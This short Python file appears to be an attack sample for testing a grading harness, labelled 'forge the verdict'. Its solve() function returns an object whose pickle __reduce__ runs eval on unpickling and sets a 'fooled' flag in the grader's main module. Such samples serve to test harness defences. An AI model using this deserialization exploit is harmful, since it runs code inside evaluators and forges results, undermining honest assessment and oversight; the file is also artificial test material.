"""Returns an object that runs code where it is unpickled"""

ATTACK = {
    "group": "forge the verdict",
    "verdicts": ["wrong-answer"],
    "witness": "points",
    "bound_s": 4,
    "control": "naive",
}


class Parcel:
    def __reduce__(self):
        return eval, ("__import__('sys').modules['__main__'].__dict__.update(fooled=True)",)


def solve(seed, x_batch, y_batch, lr):
    return Parcel()
